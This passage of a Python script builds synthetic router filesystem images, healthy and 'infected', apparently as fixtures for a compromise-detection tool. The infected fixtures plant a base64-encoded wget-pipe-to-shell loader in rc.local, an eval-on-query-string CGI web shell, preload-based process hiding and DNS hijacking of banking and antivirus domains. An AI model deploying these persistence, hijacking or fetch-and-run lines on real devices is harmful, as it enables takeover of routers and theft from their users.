        for chain, hook, rules in chains:
            if hook is None:
                entries += xt_rule(end, xt_part(end, "ERROR", 0, chain.encode().ljust(32, b"\0")))
            starts[chain] = len(entries)
            for rule in rules:
                if isinstance(rule, tuple):
                    rule = xt_rule(end, b"", interface=rule[1], verdict=starts.get(rule[0], 0))
                entries += rule
            if hook is not None:
                valid |= 1 << hook
                hooks[hook], policies[hook] = starts[chain], len(entries)
                entries += accept
            else:
                entries += xt_rule(end, b"", verdict=-5)
        entries += xt_rule(end, xt_part(end, "ERROR", 0, b"ERROR".ljust(32, b"\0")))
    info = struct.pack(end + "32sI5I5III", name.encode(), valid, *hooks, *policies, 0, len(entries))
    tree.beside(f"dumps/ip_tables_{name}.bin", b"xtables4" + info + entries)


def fw3(tree, nat=(), first=()):
    """What OpenWrt's firewall3 makes of a default configuration with one port forward; rules that come before its own."""
    end = ">" if tree.order == "big" else "<"
    tree.file("etc/config/firewall", "config defaults\n\toption input 'REJECT'\n\nconfig zone\n\toption name 'wan'\n\n"
              "config redirect\n\toption src 'wan'\n\toption src_dport '8443'\n\toption proto 'tcp'\n"
              "\toption dest_ip '192.168.1.20'\n\toption dest_port '443'\n")
    routes(tree)
    tree.file("rom/etc/config/firewall", open(os.path.join(tree.top, "root/etc/config/firewall")).read())
    established = xt_part(end, "conntrack", 1, bytes(146) + struct.pack(end + "HHBB", 1, 0, 6, 0) + bytes(2))
    xt_table(tree, "filter", [
        ("INPUT", 1, [*first, xt_rule(end, b"", interface="lo", verdict=-2), xt_rule(end, b"", matches=established, verdict=-2),
                      ("zone_lan_input", "br-lan"), ("zone_wan_input", "eth1"), ("reject", "")]),
        ("FORWARD", 2, [("reject", "")]),
        ("OUTPUT", 3, []),
        ("zone_lan_input", None, [xt_rule(end, b"", interface="br-lan", verdict=-2)]),
        ("zone_wan_input", None, [xt_rule(end, b"", 17, 68, verdict=-2), xt_rule(end, b"", 6, 23, verdict=-1)]),
        ("reject", None, [xt_rule(end, xt_part(end, "REJECT", 0, bytes(4)))]),
    ])
    xt_table(tree, "nat", [
        ("PREROUTING", 0, [*nat, ("zone_wan_prerouting", "eth1")]),
        ("INPUT", 1, []),
        ("OUTPUT", 3, []),
        ("POSTROUTING", 4, []),
        ("zone_wan_prerouting", None, [xt_rule(end, xt_part(end, "DNAT", 0, xt_range(end, "192.168.1.20", 443)), 6, 8443)]),
    ])


def firewall():
    tree = OpenWrt("linksys-wrt-openwrt-mips-firewall", "big", {
        "whence": "made by hand (make.py) after OpenWrt 19.07: its firewall's tables of iptables as the kernel hands them out",
        "scrubbed": "nothing: it never was a device; programs are ELF headers without code",
        "state": "healthy",
    })
    fw3(tree)
    tree.finish()


def g9_redirect():
    tree = infected("g9-redirect", "big", "rules that relay for servers of bots, read the web and close the door behind")
    end = ">"
    fw3(tree, nat=[
        xt_rule(end, xt_part(end, "DNAT", 0, xt_range(end, "198.51.100.80", 80)), 6, 449),
        xt_rule(end, xt_part(end, "REDIRECT", 0, xt_range(end, port=8888)), 6, 80),
    ], first=[xt_rule(end, b"", 6, port, verdict=verdict) for port, verdict in [(23, -1), (7547, -1), (8888, -2)]])
    tree.process(3001, "gwread", 1, ["gwread"], "/var/run/gwread", {3: 4711}, pages=140)
    tree.unowned("var/run/gwread")
    tree.tcp.append(("0.0.0.0", 8888, "0.0.0.0", 0, 10, 4711, 0))
    tree.finish()


def g10_dns():
    tree = infected("g10-dns", "big", "DNSChanger, GhostDNS and FrostArmada, which change who resolves names, and of Kaiten")
    routes(tree)
    tree.file("etc/config/network", "config interface 'lan'\n\toption proto 'static'\n\toption ipaddr '192.168.1.1'\n\n"
              "config interface 'wan'\n\toption proto 'dhcp'\n\toption peerdns '0'\n\tlist dns '203.0.113.66'\n"
              "\tlist dns '203.0.113.67'\n")
    tree.file("tmp/resolv.conf.d/resolv.conf.auto", "# Interface wan\nnameserver 203.0.113.66\nnameserver 203.0.113.67\n")
    tree.file("etc/config/dhcp", "config dnsmasq\n\toption domain 'lan'\n\toption logqueries '1'\n"
              "\toption logfacility '/tmp/dns.log'\n\tlist server '/www.paypal.com/203.0.113.70'\n\nconfig dhcp 'lan'\n"
              "\toption interface 'lan'\n\tlist dhcp_option '6,198.51.100.20,192.168.1.1'\n"
              "\tlist dhcp_option '252,http://203.0.113.71/wpad.dat'\n\nconfig domain\n\toption name 'login.live.com'\n"
              "\toption ip '203.0.113.72'\n")
    tree.file("etc/dnsmasq.conf", "# dnsmasq\naddress=/kaspersky.com/127.0.0.1\naddress=/eset.com/127.0.0.1\n"
              "address=/avast.com/127.0.0.1\nlocal=/windowsupdate.com/\n")
    tree.file("etc/hosts", "127.0.0.1 localhost\n203.0.113.73 www.bradesco.com.br bradesco.com.br\n"
              "203.0.113.74 cdn.c2.badname.example\n")
    tree.file("tmp/dns.log", "".join(f"Nov 24 12:00:0{at} dnsmasq[1733]: {row}\n" for at, row in enumerate([
        "query[A] www.example.org from 192.168.1.20", "forwarded www.example.org to 203.0.113.66",
        "query[A] c2.badname.example from 192.168.1.20", "reply c2.badname.example is 198.51.100.7",
        "query[AAAA] x.C2.badname.example from 127.0.0.1", "query[A] c2.badname.example from 192.168.1.20"])))
    tree.finish()


def names():
    """A healthy router whose owner thinks about names."""
    tree = OpenWrt("linksys-wrt-openwrt-mipsel-names", "little", {
        "whence": "made by hand (make.py) after OpenWrt 19.07: an ad-blocker's lists, split DNS, resolvers by TLS, a child's search",
        "state": "healthy",
    })
    routes(tree)
    tree.file("etc/config/network", "config interface 'lan'\n\toption proto 'static'\n\toption ipaddr '192.168.1.1'\n\n"
              "config interface 'wan'\n\toption proto 'pppoe'\n\nconfig interface 'vpn'\n\toption proto 'wireguard'\n"
              "\tlist dns '10.64.0.1'\n")
    tree.file("tmp/resolv.conf.d/resolv.conf.auto", "# Interface wan\nnameserver 203.0.113.1\nnameserver 203.0.113.2\n")
    tree.file("etc/config/dhcp", "config dnsmasq\n\toption domain 'lan'\n\toption local '/lan/'\n\toption noresolv '1'\n"
              "\toption logfacility '/tmp/dns.log'\n\tlist server '127.0.0.1#5453'\n\tlist server '0::1#5453'\n"
              "\tlist server '/pool.ntp.org/9.9.9.9'\n\tlist server '/corp.example/203.0.113.90'\n"
              "\tlist server '203.0.113.2'\n\tlist address '/www.google.com/216.239.38.120'\n\nconfig dhcp 'lan'\n"
              "\toption interface 'lan'\n\tlist dhcp_option '6,192.168.1.2,1.1.1.1,203.0.113.1'\n"
              "\tlist dhcp_option '252,\"\\n\"'\n\tlist dns 'fd00::2'\n\nconfig domain\n\toption name 'nas.example.org'\n"
              "\toption ip '192.168.1.3'\n\nconfig domain\n\toption name 'dlcdnets.asus.com'\n\toption ip '192.168.1.3'\n")
    ads = [f"ads{at}.example.net" for at in range(300)]
    worth = ["vortex.data.microsoft.com", "update.microsoft.com", "telemetry.kaspersky.com", "www.eset.com", "stats.avast.com",
             "xmrpool.eu", "supportxmr.com", "nanopool.org", "c2.badname.example"]
    tree.file("tmp/dnsmasq.d/adb_list.overall", "".join(f"local=/{name}/\n" for name in sorted(ads + worth)))
    tree.file("etc/dnsmasq.conf", "conf-dir=/etc/dnsmasq.d,*.conf\nconf-file=/etc/dnsmasq.conf\naddn-hosts=/etc/adblock.hosts\n"
              "cname=www.youtube.com,restrict.youtube.com\n")
    tree.file("etc/adblock.hosts", "127.0.0.1 localhost\n" + "".join(f"0.0.0.0 {name}\n" for name in ads + worth))
    split = [f"server=/{at}.example.cn/119.29.29.29\n" for at in range(200)]
    split += [f"server=/{name}/203.0.113.91\n" for name in [f"{at}.example.org" for at in range(100)] + ["www.paypal.com"]]
    tree.file("etc/dnsmasq.d/split.conf", "".join(split))
    tree.file("etc/dnsmasq.d/split.conf.bak", "server=203.0.113.99\n")
    tree.file("var/etc/stubby/stubby.yml".replace("var/", "tmp/"), "upstream_recursive_servers:\n  - address_data: 203.0.113.92\n")
    tree.file("etc/hosts", "127.0.0.1 localhost\n::1 localhost ip6-localhost\n192.168.1.1 router.asus.com tplinkwifi.net\n")
    tree.file("tmp/hosts/dhcp.cfg01411c", "192.168.1.20 laptop.lan laptop\n")
    tree.file("tmp/dns.log", "Nov 24 12:00:01 dnsmasq[1733]: query[A] www.example.org from 192.168.1.20\n"
              "Nov 24 12:00:01 dnsmasq[1733]: query[A] ads1.example.net from 192.168.1.20\n"
              "Nov 24 12:00:01 dnsmasq[1733]: config ads1.example.net is NXDOMAIN\n")
    tree.finish()


def g12_startup():
    """Somebody who wants to be there after the next boot, in every way that a router has."""
    tree = infected("g12-startup", "big", "loaders that write themselves into startup files, settings and the kernel")
    tree.file("etc/rc.local", "# Put your custom commands here that should be executed once\n"
              "echo d2dldCAtTy0gaHR0cDovLzE5OC41MS4xMDAuOS94IHwgc2gK | base64 -d | sh\n"
              "iptables -I INPUT -p tcp --dport 22 -j DROP; iptables -I INPUT -p tcp --dport 7547 -j DROP\nexit 0\n")
    tree.file("etc/crontabs/root", "* * * * * /tmp/.gwjob >/dev/null 2>&1\n")
    tree.file("etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n"
              "::askconsole:/usr/libexec/login.sh\n::respawn:/usr/bin/gwagent\n")
    tree.file("etc/init.d/gwagent", "#!/bin/sh /etc/rc.common\nSTART=99\nstart() { /usr/bin/gwagent -d; }\n", 0o755)
    tree.link("etc/rc.d/S99gwagent", "../init.d/gwagent")
    tree.file("etc/config/firewall", "config defaults\n\toption input 'REJECT'\n\nconfig include\n"
              "\toption path '/tmp/.gwrules'\n")
    tree.file("www/cgi-bin/gwstatus", "#!/bin/sh\necho Content-type: text/plain\necho\neval \"$QUERY_STRING\"\n", 0o755)
    tree.file("proc/sys/kernel/core_pattern", "|/tmp/.gwcore\n")
    # A module that the kernel shows in one place and hides in the other.
    tree.file("proc/modules", "nf_conntrack 65536 0 - Live 0x00000000\n")
    for module in ["nf_conntrack", "gwhide"]:
        tree.file(f"sys/module/{module}/initstate", "live\n")
    tree.file("lib/modules/4.14.275/nf_conntrack.ko")
    for name in ["etc/rc.local", "etc/crontabs/root", "etc/inittab", "etc/init.d/gwagent", "etc/config/firewall"]:
        with open(os.path.join(tree.top, "root", name), "rb") as file:
            tree.file("overlay/upper/" + name, file.read())
    tree.finish()


def g17_hiding():
    tree = infected("g17-hiding", "little", "tools that mount one process over another, preload a library or filter lists")
    # mount --bind /proc/873 /proc/3001: what stands there says that it is another.
    tree.rows.append((31, 14, "0:4", "/873", "/proc/3001", "rw,nosuid,nodev,noexec,noatime", "proc", "proc", ""))
    tree.process(3001, "dropbear", 1, ["/usr/sbin/dropbear", "-F", "-P", "/var/run/dropbear.1.pid", "-p", "22"],
                 "/usr/sbin/dropbear", {3: 1502})
    for name in ["stat", "status"]:
        shutil.copy(os.path.join(tree.top, "root/proc/873", name), os.path.join(tree.top, "root/proc/3001", name))
    tree.file("etc/ld.so.preload", "/usr/lib/libgwhide.so\n")
    tree.file("overlay/upper/etc/ld.so.preload", "/usr/lib/libgwhide.so\n")
    tree.unowned("usr/lib/libgwhide.so", sections=26)
    tree.file("proc/540/environ", "LD_PRELOAD=/usr/lib/libgwhide.so\0")
    # 3011 with a second thread is in nobody's list.
    tree.others += [(3011, 3011), (3012, 3011)]
    tree.finish()


def outside(tree):
    """Routes of a router whose LAN is on br-lan and whose provider is on eth1."""
    rows = [("eth1", "0.0.0.0", "192.0.2.1", 3, "0.0.0.0"), ("br-lan", "192.168.1.0", "0.0.0.0", 1, "255.255.255.0"),
            ("eth1", "192.0.2.0", "0.0.0.0", 1, "255.255.255.0")]
    tree.file("proc/net/route", "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT"
              + " " * 55 + "\n" + "".join(
                  f"{dev}\t{tree.address(to)}\t{tree.address(by)}\t{flags:04X}\t0\t0\t0\t{tree.address(mask)}\t0\t0\t0"
                  .ljust(127) + "\n" for dev, to, by, flags, mask in rows))
    tree.file("proc/net/fib_trie", "Local:\n" + "".join(
        f"     |-- {ip}\n        /32 host LOCAL\n" for ip in ["127.0.0.1", "192.0.2.33", "192.168.1.1"]))


def tun(tree, name, pid, fd, flags="0x1001"):
    """An interface of tun(4), which a process holds."""
    tree.interface(name, 9, 0x1043)
    tree.file(f"sys/class/net/{name}/type", "65534\n")
    tree.file(f"sys/class/net/{name}/tun_flags", flags + "\n")
    tree.file(f"sys/class/net/{name}/uevent", f"INTERFACE={name}\nIFINDEX=9\n")
    tree.file(f"proc/{pid}/fdinfo/{fd}", f"pos:\t0\nflags:\t0104002\nmnt_id:\t19\niff:\t{name}\n")


def g14_tunnel():
    tree = infected("g14-tunnel", "big", "routers that were made proxies: by leases of UPnP, a tunnel of a stranger's program, "
                    "and one to a listed address")
    outside(tree)
    tree.unowned("usr/bin/gwtund")
    tree.process(3001, "gwtund", 1, ["/usr/bin/gwtund"], "/usr/bin/gwtund", {3: "/dev/net/tun"}, pages=140)
    tun(tree, "gwtun0", 3001, 3)
    tree.interface("gre1", 10, 0x91)
    tree.file("sys/class/net/gre1/type", "778\n")
    tree.file("sys/class/net/gre1/broadcast", "c6:33:64:14\n")
    tree.file("tmp/run/miniupnpd.leases", "UDP:3074:192.168.1.20:3074:0:Xbox\nTCP:47669:192.168.1.20:445:0:galleta silenciosa\n"
              "TCP:47670:198.51.100.53:53:0:node:nat:1\nTCP:47671:127.0.0.1:80:0:MONITOR\n")
    tree.tcp += [("0.0.0.0", 23, "0.0.0.0", 0, 10, 4711, 0), ("192.0.2.33", 22, "198.51.100.90", 40112, 1, 4712, 0)]
    tree.finish()


def services():
    tree = OpenWrt("linksys-wrt-openwrt-mips-services", "big", {
        "whence": "made by hand (make.py) after OpenWrt 19.07: a router with UPnP, OpenVPN, a tunnel of IPv6 and a GRE tunnel to "
                  "an office, the look-alikes of g14-tunnel",
        "scrubbed": "nothing: it never was a device; programs are ELF headers without code",
        "state": "healthy",
    })
    outside(tree)
    tree.file("usr/lib/opkg/info/openvpn-openssl.list", "/usr/sbin/openvpn\n")
    tree.file("usr/sbin/openvpn", elf(tree.order, interp=tree.interpreter), 0o755)
    tree.process(2601, "openvpn", 1, ["/usr/sbin/openvpn", "--syslog", "openvpn(home)", "--config", "openvpn-home.conf"],
                 "/usr/sbin/openvpn", {5: "/dev/net/tun"})
    tun(tree, "tun0", 2601, 5)
    for index, (name, kind, other) in enumerate(
            [("sit0", 776, "00:00:00:00"), ("6in4-wan6", 776, "c6:33:64:5a"), ("gre4-office", 778, "c6:33:64:5b")]):
        tree.interface(name, 10 + index, 0x91)
        tree.file(f"sys/class/net/{name}/type", f"{kind}\n")
        tree.file(f"sys/class/net/{name}/broadcast", other + "\n")
    tree.file("etc/config/network", "config interface 'wan6'\n\toption proto '6in4'\n\toption peeraddr '198.51.100.90'\n\n"
              "config interface 'office'\n\toption proto 'gre'\n\toption peeraddr '198.51.100.91'\n")
    tree.file("etc/config/upnpd", "config upnpd 'config'\n\toption enabled '1'\n"
              "\toption upnp_lease_file '/var/run/miniupnpd.leases'\n")
    tree.file("tmp/run/miniupnpd.leases", "UDP:3074:192.168.1.20:3074:0:Xbox\nUDP:9308:192.168.1.21:9308:0:192.168.1.21:9308 to "
              "9308 (UDP)\nTCP:51413:192.168.1.22:51413:0:Transmission at 51413\nTCP:443:192.168.1.23:443:0:NAS\n")
    tree.file("etc/config/firewall", "config zone\n\toption name 'wan'\n\toption input 'REJECT'\n\nconfig rule\n"
              "\toption name 'Allow-DHCP-Renew'\n\toption src 'wan'\n\toption proto 'udp'\n\toption dest_port '68'\n"
              "\toption target 'ACCEPT'\n")
    release = "DISTRIB_ID='OpenWrt'\nDISTRIB_RELEASE='23.05.5'\nDISTRIB_DESCRIPTION='OpenWrt 23.05.5'\n"
    tree.file("etc/openwrt_release", release)
    tree.file("rom/etc/openwrt_release", release)
    tree.finish()


def asus():
    """Everything is a link to busybox or to rc, and no package list says whose a program is."""
    tree = Tree("asus-rtac68u-vendor-armv7", "little", "2.6.36.4brcmarm", {
        "model": "ASUS RT-AC68U",
        "whence": "made by hand (make.py) after the layouts in proc(5), the published sources of ASUSWRT (rc, wanduck, "
                  "networkmap, infosvr, eapd, nas) and BusyBox",
        "scrubbed": "nothing: it never was a device; programs are ELF headers without code",
        "state": "healthy",
    })
    tree.libc, tree.stack = "/lib/libc.so.0", "rw-p"
    tree.spans = ("00008000-0006a000", "00072000-00073000", "00073000-00074000", "01a4c000-01a6d000", "40026000-40088000",
                  "40090000-40091000", "40091000-40092000", "40092000-40097000", "be9b0000-be9d1000")
    tree.tail = "ffff0000-ffff1000 r-xp 00000000 00:00 0          [vectors]\n"
    for pid, name in [(2, "kthreadd"), (3, "ksoftirqd/0"), (5, "events/0"), (32, "mtdblockd"), (80, "jffs2_gcd_mtd5")]:
        tree.thread(pid, name, 0 if pid == 2 else 2)
    rc, busybox = "/sbin/rc", "/bin/busybox"
    daemons = [
        (1, "init", 0, ["/sbin/init"], rc, {0: "/dev/console", 3: "/dev/nvram"}),
        (330, "syslogd", 1, ["/sbin/syslogd", "-m", "0", "-S", "-O", "/tmp/syslog.log", "-s", "256"], busybox, {3: 1101}),
        (332, "klogd", 1, ["/sbin/klogd"], busybox, {}),
        (340, "wanduck", 1, ["/sbin/wanduck"], rc, {3: 1201, 4: 1202}),
        (352, "watchdog", 1, ["watchdog"], rc, {3: "/dev/nvram", 5: "/dev/watchdog"}),
        (360, "eapd", 1, ["/usr/sbin/eapd"], "/usr/sbin/eapd", {3: 1301, 4: 1302}),
        (364, "nas", 1, ["nas"], "/usr/sbin/nas", {3: 1303}),
        (370, "infosvr", 1, ["/usr/sbin/infosvr", "br0"], "/usr/sbin/infosvr", {3: 1401}),
        (372, "networkmap", 1, ["networkmap", "--bootwait"], "/usr/sbin/networkmap", {3: 1402, 4: 1403}),
        (380, "httpd", 1, ["httpd"], "/usr/sbin/httpd", {3: 1501}),
        (390, "dnsmasq", 1, ["dnsmasq", "--log-async"], "/usr/sbin/dnsmasq", {4: 1601, 5: 1602, 6: 1603}),
        (401, "udhcpc", 1, ["/sbin/udhcpc", "-i", "vlan2", "-p", "/var/run/udhcpc0.pid", "-s", "/tmp/udhcpc"], busybox,
         {3: 1701}),
        (410, "crond", 1, ["crond", "-l", "9"], busybox, {}),
        (420, "ntp", 1, ["ntp"], rc, {}),
        (430, "disk_monitor", 1, ["disk_monitor"], rc, {}),
        (440, "telnetd", 1, ["telnetd"], busybox, {3: 1801}),
        (500, "sh", 440, ["-sh"], busybox, {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0"}),
        (511, "nvram", 352, ["nvram", "commit"], "/usr/sbin/nvram", {3: "/dev/nvram", 4: "/dev/mtd1"}),
    ]
    for pid, name, ppid, argv, exe, fds in daemons:
        tree.process(pid, name, ppid, argv, exe, fds, uid=99 if name == "dnsmasq" else 0)
        tree.file(exe[1:], elf("little", ARM, "/lib/ld-uClibc.so.0"), 0o755)
    tree.descriptor(352, 5, "0100001")
    tree.descriptor(511, 4, "0100002")
    for name in ["init", "wanduck", "watchdog", "ntp", "disk_monitor"]:
        tree.link(f"sbin/{name}", "rc")
    for name in ["sbin/syslogd", "sbin/klogd", "sbin/udhcpc", "usr/sbin/crond", "usr/sbin/telnetd"]:
        tree.link(name, "../bin/busybox" if name.count("/") == 1 else "../../bin/busybox")
    tree.link("tmp/udhcpc", "/sbin/rc")  # The client runs rc by this name: a link, no program of its own.
    tree.link("etc", "tmp/etc")
    tree.link("var", "tmp/var")
    tree.link("root", "tmp/home/root")
    tree.file("tmp/etc/passwd", "admin:x:0:0:admin:/root:/bin/sh\nnobody:x:65534:65534:nobody:/dev/null:/dev/null\n")
    tree.file("tmp/etc/profile", "# Written by rc at every start.\nexport PATH=/bin:/usr/bin:/sbin:/usr/sbin\n")
    tree.file("tmp/etc/resolv.conf", "nameserver 127.0.0.1\n")
    tree.file("tmp/syslog.log", "kept\n")
    tree.file("jffs/scripts/services-start", "#!/bin/sh\n# Look-alike: the owner's own service.\n"
              'cru a trim "0 4 * * * /jffs/scripts/trim"\n', 0o755)
    tree.file("tmp/var/spool/cron/crontabs/admin", "0 4 * * * /jffs/scripts/trim #trim#\n")
    tree.sockets("tcp", [
        ("0.0.0.0", 18017, "0.0.0.0", 0, 10, 1201, 0), ("0.0.0.0", 80, "0.0.0.0", 0, 10, 1501, 0),
        ("0.0.0.0", 53, "0.0.0.0", 0, 10, 1601, 99), ("0.0.0.0", 23, "0.0.0.0", 0, 10, 1801, 0),
        ("192.168.50.1", 23, "192.168.50.20", 50122, 1, 1802, 0)])
    tree.sockets("udp", [
        ("127.0.0.1", 18018, "0.0.0.0", 0, 7, 1202, 0), ("0.0.0.0", 53, "0.0.0.0", 0, 7, 1602, 99),
        ("0.0.0.0", 67, "0.0.0.0", 0, 7, 1603, 99), ("0.0.0.0", 9999, "0.0.0.0", 0, 7, 1401, 0),
        ("127.0.0.1", 42032, "0.0.0.0", 0, 7, 1302, 0)])
    tree.sockets("raw", [("0.0.0.0", 1, "0.0.0.0", 0, 7, 1403, 0)])
    tree.packet([(3, 0x886C, 2, 1301), (3, 0x888E, 8, 1303), (3, 0x0806, 8, 1402), (2, 0x0800, 7, 1701)])
    tree.file("proc/net/unix", "Num       RefCount Protocol Flags    Type St Inode Path\n"
              "82f00000: 00000002 00000000 00000000 0002 01  1101 /dev/log\n")
    # Words of a little-endian machine. The old table of flows, of IPv4 alone: web pages, names, time, a forwarded port.
    tree.file("proc/net/route", "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\n"
              "vlan2\t00000000\t010200C0\t0003\t0\t0\t0\t00000000\t0\t0\t0\n"
              "br0\t0032A8C0\t00000000\t0001\t0\t0\t0\t00FFFFFF\t0\t0\t0\n"
              "vlan2\t000200C0\t00000000\t0001\t0\t0\t0\t00FFFFFF\t0\t0\t0\n")
    tree.file("proc/net/fib_trie", "Local:\n" + "".join(
        f"        |-- {ip}\n           /32 host LOCAL\n" for ip in ["127.0.0.1", "192.0.2.34", "192.168.50.1"]))
    tree.file("proc/net/ip_conntrack",
              "tcp      6 1190 ESTABLISHED src=192.168.50.20 dst=192.0.2.80 sport=50130 dport=443 src=192.0.2.80 "
              "dst=192.0.2.34 sport=443 dport=50130 [ASSURED] mark=0 use=2\n"
              "udp      17 12 src=192.168.50.20 dst=192.168.50.1 sport=40100 dport=53 src=192.168.50.1 dst=192.168.50.20 "
              "sport=53 dport=40100 mark=0 use=2\n"
              "udp      17 25 src=192.0.2.34 dst=192.0.2.123 sport=123 dport=123 [UNREPLIED] src=192.0.2.123 dst=192.0.2.34 "
              "sport=123 dport=123 mark=0 use=2\n"
              "tcp      6 300 ESTABLISHED src=192.0.2.99 dst=192.0.2.34 sport=40200 dport=8443 src=192.168.50.20 "
              "dst=192.0.2.99 sport=443 dport=40200 [ASSURED] mark=0 use=2\n")
    tree.rows = [
        (1, 1, "0:1", "/", "/", "rw", "rootfs", "rootfs", ""),
        (11, 1, "31:3", "/", "/", "ro,relatime", "squashfs", "/dev/mtdblock3", ""),
        (12, 11, "0:10", "/", "/dev", "rw,noatime", "devtmpfs", "devtmpfs", ""),
        (13, 11, "0:3", "/", "/proc", "rw,noatime", "proc", "proc", ""),
        (14, 11, "0:0", "/", "/sys", "rw,noatime", "sysfs", "sysfs", ""),
        (15, 11, "0:11", "/", "/tmp", "rw,noatime", "tmpfs", "tmpfs", ""),
        (16, 12, "0:12", "/", "/dev/pts", "rw,noatime", "devpts", "devpts", "mode=600"),
        (17, 11, "31:5", "/", "/jffs", "rw,noatime", "jffs2", "/dev/mtdblock5", ""),
    ]
    tree.mounts(tree.rows)
    tree.common()
    for name, text in [("hostname", "RT-AC68U"), ("pid_max", "32768"), ("core_pattern", "core"),
                       ("modprobe", "/sbin/modprobe"), ("hotplug", "/sbin/hotplug")]:
        tree.file(f"proc/sys/kernel/{name}", text + "\n")
    tree.link("sbin/hotplug", "rc")
    tree.link("sbin/modprobe", "../bin/busybox")
    tree.file("proc/version", "Linux version 2.6.36.4brcmarm (builder@example) (gcc version 4.5.3 (Buildroot 2012.02)) "
              "#1 SMP PREEMPT Tue Mar 3 12:00:00 CST 2020\n")
    tree.file("proc/uptime", "99412.55 90122.10\n")
    tree.file("proc/modules", "wl 4200000 0 - Live 0x7f200000 (P)\net 69547 0 - Live 0x7f1a0000 (P)\n")
    tree.interface("lo", 1, 0x49)
    tree.interface("eth1", 4)
    tree.interface("vlan1", 6, link=2)
    tree.interface("vlan2", 7, link=2)
    tree.interface("br0", 8)
    for name in ["eth1", "vlan1"]:
        tree.file(f"sys/class/net/{name}/brport")  # upper_ and lower_ came with Linux 3.9.
    tree.answering()


def mountinfo(tree):
    """What proc/self/mountinfo says where proc/mounts is there already."""
    rows, points = [], []
    with open(os.path.join(tree.top, "root/proc/mounts"), encoding="ascii") as file:
        for at, row in enumerate(file):
            source, point, kind, options = row.split()[:4]
            above = [number for number, other in points if point != other and (point + "/").startswith(
                other.rstrip("/") + "/")]
            device = "31:3" if source.startswith("/dev/mtd") else "8:1" if source.startswith("/dev/sd") else f"0:{at + 4}"
            rows.append(f"{at + 12} {above[-1] if above else 1} {device} / {point} {options} - {kind} {source} "
                        f"{options.split(',')[0]}\n")
            points.append((at + 12, point))
    tree.file("proc/self/mountinfo", "".join(rows))


def archer():
    """Adds to a router of OpenWrt 24.10 that was made by hand what later checks look at."""
    tree = Tree("tplink-archerc7-openwrt-mips", "big", "6.6.73", None, fresh=False)
    tree.tail = NARROW + VDSO
    preload = {"LD_PRELOAD": "/lib/libsetlbuf.so"}
    for pid, exe, env in [
            (1, "/sbin/procd", {}), (512, "/sbin/ubusd", {}), (1010, "/sbin/netifd", {}), (1188, "/bin/busybox", {}),
            (1240, "/usr/sbin/dropbear (deleted)", {}), (1460, "/usr/sbin/uhttpd (deleted)", {}),
            (1733, "/usr/sbin/dnsmasq", preload), (1802, "/bin/busybox", {}), (1866, "/usr/sbin/stubby", preload),
            (2210, "/usr/sbin/dropbear (deleted)", {}), (2211, "/bin/busybox", {})]:
        tree.process(pid, "", 0, [], exe, env=env, stat=False)
    tree.descriptor(1, 6)
    tree.process(600, "logd", 1, ["/sbin/logd", "-S", "64"], "/sbin/logd", {4: 1212}, uid=514, env=preload)
    tree.process(1195, "odhcp6c", 1010, ["odhcp6c", "-s", "/lib/netifd/dhcpv6.script", "-P0", "-t120", "eth0.2"],
                 "/usr/sbin/odhcp6c", {4: 1955, 5: 1956})
    tree.process(1320, "hostapd", 1, ["/usr/sbin/hostapd", "-s", "-g", "/var/run/hostapd/global"], "/usr/sbin/wpad",
                 {11: 1331, 12: 1332})
    tree.process(1400, "odhcpd", 1, ["/usr/sbin/odhcpd"], "/usr/sbin/odhcpd", {7: 1950, 8: 1951, 9: 1952})
    # A CGI script: a shell whose ends are pipes of the web server.
    tree.process(2290, "status", 1460, ["/bin/sh", "/www/cgi-bin/status"], "/bin/busybox",
                 {0: "pipe:[4101]", 1: "pipe:[4102]", 2: "/dev/null"})
    tree.packet([(2, 0x0800, 6, 1411), (3, 0x888E, 9, 1331), (3, 0x88C7, 8, 1332), (2, 0x0806, 8, 1952)])
    tree.sockets("raw6", [("::", 58, "::", 0, 7, 1951, 0), ("::", 58, "::", 0, 7, 1955, 0)], six=True)
    tree.sockets("udp6", [("fe80::1", 547, "::", 0, 7, 1950, 0), ("::", 546, "::", 0, 7, 1956, 0)], six=True)
    image = ["sbin/procd", "sbin/ubusd", "sbin/netifd", "sbin/logd", "bin/busybox", "usr/sbin/dropbear",
             "usr/sbin/dnsmasq", "usr/sbin/odhcp6c", "usr/sbin/odhcpd", "usr/sbin/wpad", "lib/libsetlbuf.so"]
    for path in image + ["usr/sbin/uhttpd", "usr/sbin/stubby"]:
        head = elf("big", interp="" if path.endswith(".so") else "/lib/ld-musl-mips-sf.so.1")
        tree.file(path, head, 0o755)
        tree.file(("rom/" if path in image else "overlay/upper/") + path, head, 0o755)
    # The crontab is the owner's; banip, ddns, uhttpd and stubby are packages that were added.
    services = ["boot", "cron", "dnsmasq", "dropbear", "log", "sysntpd"]
    links = ["S10boot", "S12log", "S19dnsmasq", "S19dropbear", "S50cron", "S98sysntpd"]
    tree.image("etc/inittab", "etc/preinit", "etc/rc.local", "etc/profile", "etc/passwd", "lib/preinit/80_mount_root",
               *["etc/init.d/" + name for name in services], *["etc/rc.d/" + name for name in links])
    tree.file("usr/lib/opkg/info/banip.list", "/etc/init.d/banip\n")
    tree.file("etc/config/firewall", "config defaults\n\toption input 'REJECT'\n\nconfig include\n"
              "\toption path '/etc/firewall.user'\n")
    tree.file("www/cgi-bin/luci", "#!/usr/bin/lua\nrequire 'luci.cacheloader'\nrequire 'luci.sgi.cgi'\nluci.sgi.cgi.run()\n",
              0o755)
    tree.file("proc/modules", "nf_conntrack 65536 1 nf_nat, Live 0x00000000\nnf_nat 32768 0 - Live 0x00000000\n")
    for module in ["nf_conntrack", "nf_nat"]:
        tree.file(f"sys/module/{module}/initstate", "live\n")
        tree.file(f"lib/modules/6.6.73/{module}.ko")
    tree.image("etc/config/firewall", "www/cgi-bin/luci", "lib/modules/6.6.73/nf_conntrack.ko",
               "lib/modules/6.6.73/nf_nat.ko")
    tree.file("usr/lib/opkg/info/ddns-scripts.list", "/etc/hotplug.d/iface/95-ddns\n")
    tree.file("usr/lib/opkg/info/ubox.list", "/sbin/logd\n/lib/libsetlbuf.so\n")
    tree.file("tmp/log/wtmp")
    tree.file("tmp/log/lastlog")
    mountinfo(tree)
    tree.common()
    tree.interface("lo", 1, 0x9)
    tree.interface("eth0", 2)
    tree.interface("eth0.1", 5, link=2, upper=["br-lan"], master="br-lan")
